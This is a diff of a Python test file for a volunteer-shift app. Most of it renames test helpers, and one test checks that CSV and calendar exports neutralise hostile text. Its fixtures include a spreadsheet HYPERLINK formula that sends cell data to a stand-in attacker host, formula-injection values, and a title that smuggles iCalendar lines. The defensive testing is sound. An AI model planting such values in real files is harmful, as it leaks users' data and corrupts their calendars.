@@ -984,7 +915,7 @@ def test_the_public_list_pages_by_each_activitys_next_shift_and_past_ones_latest
     soon = utcnow().replace(microsecond=0) + timedelta(days=2)
     made = []
     for n in range(45):
-        shift = make_shift(soon + timedelta(hours=(45 - n) * 5), title=f"活动{n:02d}", capacity=3)
+        shift = create_shift(soon + timedelta(hours=(45 - n) * 5), title=f"活动{n:02d}", capacity=3)
         if n % 3 == 0:  # an earlier shift, already over: the list shows the next one
             shift.activity.shifts.append(
                 Shift(
@@ -1033,13 +964,13 @@ def test_the_public_list_pages_by_each_activitys_next_shift_and_past_ones_latest
 
 def test_the_csv_and_the_calendar_hold_hostile_text_as_text(client, demo, login_as, ctx):
     hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
-    profile = make_profile(RESIDENT, name="@SUM(1+1)")
-    shift = make_shift(title="助老\rBEGIN:VALARM;X=1,2\r\nEND:VEVENT")
+    profile = create_profile(RESIDENT, name="@SUM(1+1)")
+    shift = create_shift(title="助老\rBEGIN:VALARM;X=1,2\r\nEND:VEVENT")
     record = record_for(profile)
     record.shift_id, record.content, record.state = shift.id, hostile, "approved"
     record.place = "\t-1+2"
     db.session.commit()
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     text = client.get(f"/volunteers/shifts/{shift.id}/hours.csv").get_data(as_text=True)
     assert text.startswith("\ufeff")
     row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
